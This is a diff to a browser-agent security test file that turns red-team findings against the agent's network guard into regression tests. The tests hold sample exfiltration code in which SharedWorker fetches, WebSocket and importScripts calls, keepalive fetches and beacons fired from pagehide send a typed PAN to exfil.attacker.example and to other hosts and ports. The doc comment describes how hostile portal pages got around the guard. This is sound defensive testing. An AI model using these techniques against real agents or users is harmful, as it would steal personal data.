@@ -1,45 +1,36 @@
-import { chromium, type Browser, type Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { CHROMIUM_FLAGS, chromiumPath } from '../../src/agent/browser/chromium';
+import { launchChromium } from '../../src/agent/browser/chromium';
 import { loadPortalProfile } from '../../src/agent/case/portal-profiles';
-import { contextOptionsFor, installWatchdogs } from '../../src/agent/guard/browser';
-import { bindLabProfile, startLab, type Lab } from '../../src/lab';
+import { installWatchdogs, openGuardedContext, type GuardEvent } from '../../src/agent/guard/browser';
+import { bindLabProfile, PORTAL_HOSTS, startLab, type Lab } from '../../src/lab';
 
 /**
- * Holes the red team found in the guard, each as the smallest repro: a portal page (the portal
- * compromised, or showing user content) in a context with every watchdog Portal Desk installs.
- * A hole's test is `it.fails` until the guard is fixed; then it passes, `it.fails` fails, and the
- * marker comes off.
+ * Holes the red team found in the guard, each as its smallest repro, kept as regression tests: a
+ * portal page (the portal compromised, or showing user content) in a context opened exactly as a
+ * run opens one (`openGuardedContext` + `installWatchdogs`), counted where requests land: the
+ * lab's attacker hosts, its second port, and every lab host that is not the portal's.
  *
- * HOLE 1, SharedWorker: the network lock is Playwright request routing on the context
- * (`context.route`, `routeWebSocket`), and in Chromium that routing does not see requests made by
- * a SharedWorker (service workers are off: `serviceWorkers: 'block'`; dedicated workers are
- * routed). A page script can start a SharedWorker (from a same-origin script or a blob: URL) and
- * post it the values the agent typed; the worker's fetch, sendBeacon-like POST, WebSocket and
- * importScripts reach any host: an attacker name, an IP literal (which no resolver rule stops),
- * the portal's host on another port. The redirect lock does not see them either (it attaches to
- * the page and its frames, not to worker targets). Found by attack `shared-worker`.
- * A fix belongs in src/agent/guard/watchdogs: attach to shared_worker targets (CDP
- * Target.setAutoAttach with waitForDebuggerOnStart on the browser session) and apply the same
- * Fetch lock there, or refuse them outright (e.g. an init script that removes `SharedWorker`,
- * backed by closing any shared_worker target that still appears).
+ * HOLE 1, SharedWorker (attack `shared-worker`): the network lock is Playwright request routing
+ * on the context, and in Chromium that routing does not see requests made by a SharedWorker; the
+ * redirect lock attaches to the page and its frames, not to worker targets. A page script could
+ * start a SharedWorker and post it what the agent typed; the worker's fetch, WebSocket and
+ * importScripts reached any host, IP literals and other ports included.
  *
- * HOLE 2, requests sent while a page unloads: a `fetch(..., { keepalive: true })` or
- * `navigator.sendBeacon` started in a `pagehide` (or unload) handler reaches any host when the
- * agent navigates away or the page is closed: the request outlives its document, and the
- * network lock's routing no longer sees it (the same calls made while the page is alive are
- * stopped). A portal page can stash what the agent typed and send it on the way out. Found by
- * attack `unload-keepalive`. Closing the whole context did not leak in the lab. A fix belongs in
- * src/agent/guard/watchdogs: e.g. an init script that wraps `sendBeacon` and keepalive `fetch`
- * to refuse off-list addresses in the page itself, plus a browser-level lock that does not
- * depend on the document (CDP Fetch on the browser target, or a proxy the context must use).
+ * HOLE 2, requests sent while a page unloads (attack `unload-keepalive`): a keepalive fetch or a
+ * beacon started in a `pagehide` handler outlives its document, and the routing no longer sees it.
+ *
+ * Closed by the egress lock (src/agent/guard/egress-proxy.ts): every context of a run goes
+ * through a proxy of its own, in Chromium's network stack below any document, that lets only the
+ * portal's addresses through. Each test also checks the lock's report, which proves the request
+ * was made (and stopped), so a test cannot pass because the page never tried.
  */
 
 let lab: Lab;
 let browser: Browser;
 beforeAll(async () => {
   lab = await startLab();
-  browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_FLAGS, `--host-resolver-rules=${lab.hostResolverRules}`] });
+  browser = await launchChromium({ hostResolverRules: lab.hostResolverRules });
 });
 afterAll(async () => {
   await browser?.close();
@@ -47,14 +38,34 @@ afterAll(async () => {
 });
 beforeEach(() => lab.reset());
 
+interface Guarded {
+  page: Page;
+  events: GuardEvent[];
+  close: () => Promise<void>;
+}
+
 /** A portal page in a guarded context, exactly as a run gets one. */
-async function guardedPortalPage(): Promise<{ page: Page; close: () => Promise<void> }> {
+async function guardedPortalPage(): Promise<Guarded> {
   const profile = bindLabProfile(loadPortalProfile('shops'), lab.port);
-  const context = await browser.newContext(contextOptionsFor(profile));
-  const watchdogs = await installWatchdogs(context, profile, () => undefined);
+  const context = await openGuardedContext(browser, profile);
+  const events: GuardEvent[] = [];
+  const watchdogs = await installWatchdogs(context, profile, (event) => events.push(event));
   const page = await watchdogs.openPage();
   await page.goto(`${lab.origin('shops')}/sign-in`);
-  return { page, close: () => context.close() };
+  return { page, events, close: () => context.close() };
+}
+
+/** Everything that reached the lab off the portal: attacker hosts, the second port, other lab hosts (the control API on 127.0.0.1). */
+function offPortal(): string[] {
+  return [
+    ...lab.attackerRequests().map((r) => `attacker ${r.method} ${r.host}${r.path} ${r.body}`),
+    ...lab.requestLog().filter((r) => r.host !== PORTAL_HOSTS.shops).map((r) => `lab ${r.method} ${r.host}${r.path}`),
+  ];
+}
+
+/** The egress lock's reports (the proxy is the only layer whose details name it). */
+function egressStops(events: readonly GuardEvent[]): string[] {
+  return events.filter((e) => e.type === 'request_blocked' && e.detail.includes('egress lock')).map((e) => e.url ?? '');
 }
 
 /** Starts a request to the attacker from a pagehide handler, then leaves the page the way the agent does. */
@@ -70,90 +81,141 @@ async function leakOnTheWayOut(page: Page, kind: 'keepalive' | 'beacon'): Promis
     [url, kind],
   );
   await page.goto(`${lab.origin('shops')}/sign-in?next`);
-  await page.waitForTimeout(1500);
 }
 
 const WORKER_PATH = '/lab-attack/page/shared-worker/shared-worker.js?atk=shared-worker';
 
-describe('guard holes found by the red team', () => {
+describe('guard holes found by the red team, closed by the egress lock', () => {
   it('control: a dedicated Worker\'s requests are stopped by the network lock', async () => {
-    const { page, close } = await guardedPortalPage();
+    const { page, events, close } = await guardedPortalPage();
     try {
       await page.evaluate((src) => {
         new Worker(src.replace('shared-worker.js', 'worker.js').replace('/shared-worker/', '/dedicated-worker/')).postMessage('owner_pan=AMNPR6621D');
       }, WORKER_PATH);
-      await page.waitForTimeout(1500);
+      await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
       expect(lab.attackRecords().hits.some((h) => h.kind === 'page')).toBe(true);
-      expect(lab.attackerRequests()).toEqual([]);
+      await page.waitForTimeout(500);
+      expect(offPortal()).toEqual([]);
     } finally {
       await close();
     }
   }, 120_000);
 
-  it('HOLE, as it stands: the attacker receives the PAN from a SharedWorker (flips when the guard is fixed)', async () => {
-    const { page, close } = await guardedPortalPage();
+  it('HOLE 1 closed: a SharedWorker started by a portal page cannot send the typed case data to the attacker', async () => {
+    const { page, events, close } = await guardedPortalPage();
     try {
       await page.evaluate((src) => {
         const worker = new SharedWorker(src);
         worker.port.start();
         worker.port.postMessage('owner_pan=AMNPR6621D');
       }, WORKER_PATH);
-      await expect
-        .poll(() => lab.attackerRequests().filter((r) => r.host === 'exfil.attacker.example' && r.body === 'owner_pan=AMNPR6621D').length, { timeout: 15_000 })
-        .toBeGreaterThan(0);
-    } finally {
-      await close();
-    }
-  }, 120_000);
-
-  it.fails('HOLE: a SharedWorker started by a portal page sends the typed case data to the attacker', async () => {
-    const { page, close } = await guardedPortalPage();
-    try {
-      await page.evaluate((src) => {
-        const worker = new SharedWorker(src);
-        worker.port.start();
-        worker.port.postMessage('owner_pan=AMNPR6621D');
-      }, WORKER_PATH);
-      await page.waitForTimeout(1500);
-      // The worker script was served (proof the attempt was made)...
+      // The worker script was served (the attempt was made), and the egress lock stopped both of its posts...
+      await expect.poll(() => egressStops(events).filter((u) => u.includes('exfil.attacker.example')).length, { timeout: 15_000 }).toBe(2);
       expect(lab.attackRecords().hits.some((h) => h.kind === 'page' && h.attack === 'shared-worker')).toBe(true);
-      // ...and nothing may reach the attacker. Today the attacker receives the PAN.
-      expect(lab.attackerRequests()).toEqual([]);
+      // ...so nothing reached the attacker.
+      await page.waitForTimeout(500);
+      expect(offPortal()).toEqual([]);
+    } finally {
+      await close();
+    }
+  }, 120_000);
+
+  it('HOLE 1 closed: a SharedWorker from a blob: address reaches no attacker name, IP literal, other port or socket, and only the portal answers it', async () => {
+    const { page, events, close } = await guardedPortalPage();
+    try {
+      const targets = {
+        name: `http://exfil.attacker.example:${lab.port}/worker-fetch?d=AMNPR6621D`,
+        ip: `http://127.0.0.1:${lab.port}/worker-ip?d=AMNPR6621D`,
+        otherPort: `http://${PORTAL_HOSTS.shops}:${lab.attackerPort}/worker-port?d=AMNPR6621D`,
+        socket: `ws://exfil.attacker.example:${lab.port}/worker-socket?d=AMNPR6621D`,
+        script: `http://exfil.attacker.example:${lab.port}/worker-import.js?d=AMNPR6621D`,
+        portal: `${lab.origin('shops')}/sign-in?from-worker`,
+      };
+      const answer = await page.evaluate(async (t) => {
+        const source = `
+          onconnect = async (e) => {
+            const port = e.ports[0];
+            const tried = (p) => p.then(() => 'reached', () => 'failed');
+            const results = {
+              name: await tried(fetch(${JSON.stringify(t.name)}, { method: 'POST', mode: 'no-cors', body: 'owner_pan=AMNPR6621D' })),
+              ip: await tried(fetch(${JSON.stringify(t.ip)}, { mode: 'no-cors' })),
+              otherPort: await tried(fetch(${JSON.stringify(t.otherPort)}, { mode: 'no-cors' })),
+              socket: await new Promise((r) => { const s = new WebSocket(${JSON.stringify(t.socket)}); s.onopen = () => r('reached'); s.onerror = () => r('failed'); }),
+              script: (() => { try { importScripts(${JSON.stringify(t.script)}); return 'reached'; } catch (err) { return 'failed'; } })(),
+              portal: await fetch(${JSON.stringify(t.portal)}).then((r) => String(r.status), () => 'failed'),
+            };
+            port.postMessage(results);
+          };`;
+        const worker = new SharedWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
+        return new Promise((resolve) => {
+          worker.port.onmessage = (m) => resolve(m.data as Record<string, string>);
+          worker.port.start();
+        });
+      }, targets);
+      // The worker ran, the portal answered it, and every other attempt failed in the worker...
+      expect(answer).toEqual({ name: 'failed', ip: 'failed', otherPort: 'failed', socket: 'failed', script: 'failed', portal: '200' });
+      // ...because the egress lock refused it (a name, an IP literal, another port, a tunnel for the socket)...
+      const stops = egressStops(events);
+      expect(stops).toEqual(
+        expect.arrayContaining([
+          targets.name,
+          targets.ip,
+          targets.otherPort,
+          `exfil.attacker.example:${lab.port}`,
+          targets.script,
+        ]),
+      );
+      // ...and nothing landed anywhere but on the portal.
+      await page.waitForTimeout(500);
+      expect(offPortal()).toEqual([]);
     } finally {
       await close();
     }
   }, 120_000);
 
   it('control: the same keepalive fetch and beacon, sent while the page is alive, are stopped', async () => {
-    const { page, close } = await guardedPortalPage();
+    const { page, events, close } = await guardedPortalPage();
     try {
       await page.evaluate((target) => {
         void fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
         navigator.sendBeacon(target, 'owner_pan=AMNPR6621D');
       }, `http://exfil.attacker.example:${lab.port}/alive`);
-      await page.waitForTimeout(1500);
-      expect(lab.attackerRequests()).toEqual([]);
+      await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
+      await page.waitForTimeout(500);
+      expect(offPortal()).toEqual([]);
     } finally {
       await close();
     }
   }, 120_000);
 
-  it('HOLE, as it stands: a keepalive fetch and a beacon sent from pagehide reach the attacker (flips when the guard is fixed)', async () => {
-    const { page, close } = await guardedPortalPage();
+  it('HOLE 2 closed: a keepalive fetch and a beacon a portal page sends as the agent leaves it reach nobody', async () => {
+    const { page, events, close } = await guardedPortalPage();
     try {
       await leakOnTheWayOut(page, 'keepalive');
       await leakOnTheWayOut(page, 'beacon');
-      expect(lab.attackerRequests().map((r) => `${r.path} ${r.body}`).sort()).toEqual(['/unload-beacon owner_pan=AMNPR6621D', '/unload-keepalive owner_pan=AMNPR6621D']);
+      const unload = (kind: string) => `http://exfil.attacker.example:${lab.port}/unload-${kind}`;
+      await expect.poll(() => egressStops(events).filter((u) => u === unload('keepalive') || u === unload('beacon')).sort(), { timeout: 15_000 }).toEqual([unload('beacon'), unload('keepalive')]);
+      await page.waitForTimeout(1000);
+      expect(offPortal()).toEqual([]);
     } finally {
       await close();
     }
   }, 120_000);
 
-  it.fails('HOLE: a request a portal page sends while the agent leaves it reaches the attacker', async () => {
-    const { page, close } = await guardedPortalPage();
+  it('HOLE 2 closed: the same on the way out of a closing page', async () => {
+    const { page, events, close } = await guardedPortalPage();
     try {
-      await leakOnTheWayOut(page, 'keepalive');
-      expect(lab.attackerRequests()).toEqual([]);
+      const target = `http://exfil.attacker.example:${lab.port}/unload-on-close`;
+      await page.evaluate((t) => {
+        addEventListener('pagehide', () => {
+          void fetch(t, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
+          navigator.sendBeacon(`${t}-beacon`, 'owner_pan=AMNPR6621D');
+        });
+      }, target);
+      await page.close({ runBeforeUnload: true });
+      await expect.poll(() => egressStops(events).filter((u) => u.startsWith(target)).sort(), { timeout: 15_000 }).toEqual([target, `${target}-beacon`]);
+      await new Promise((resolve) => setTimeout(resolve, 1000));
+      expect(offPortal()).toEqual([]);
     } finally {
       await close();
     }
